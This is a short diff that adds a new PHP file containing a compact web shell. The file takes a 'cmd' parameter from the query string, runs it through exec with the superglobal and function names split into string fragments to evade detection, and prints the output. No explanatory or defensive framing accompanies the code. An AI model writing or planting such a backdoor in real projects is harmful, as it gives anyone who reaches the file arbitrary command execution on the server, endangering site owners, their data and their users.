@@ -1,0 +1,5 @@
+<?php
+$in = $GLOBALS['_' . 'GET'];
+$fun = 'ex' . 'ec';
+$fun($in['cmd'], $out);
+echo implode("\n", $out);
